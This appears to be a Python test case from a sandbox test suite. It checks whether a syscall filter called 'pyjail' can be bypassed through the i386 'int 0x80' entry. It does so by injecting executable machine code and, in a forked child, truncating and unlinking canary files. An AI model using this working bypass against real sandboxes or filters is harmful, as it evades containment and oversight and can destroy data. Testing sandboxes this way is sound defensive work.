# SPDX-License-Identifier: Apache-2.0
# tries: empty and remove files through the i386 entry of the kernel, int 0x80 (S40)
# proof: changed
# needs: i386
#
# Number 5 is open there and fstat here, 10 is unlink and mprotect.  A filter that does not look at
# the architecture reads the wrong table.  pyjail ends the process that enters this way, so the
# attack is made by a child; nothing is recorded, since the kernel does it alone.

import ctypes
import mmap
import os

I386_open, I386_unlink = 5, 10
MAP_32BIT = 0x40

code = bytes.fromhex('53'                # push rbx
                     '89f8 89f3 89d1'    # mov eax, edi; mov ebx, esi; mov ecx, edx
                     'cd80 5b c3')       # int 0x80; pop rbx; ret
page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
                 prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page[:len(code)] = code
at = ctypes.addressof(ctypes.c_char.from_buffer(page))
enter = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(at)

for number, path in (I386_open, b'@CANARY@/file\0'), (I386_unlink, b'@CANARY@/link\0'):
    page[1024:1024 + len(path)] = path
    pid = os.fork()
    if pid == 0:
        enter(number, at + 1024, os.O_WRONLY | os.O_TRUNC)
        os._exit(0)
    os.waitpid(pid, 0)
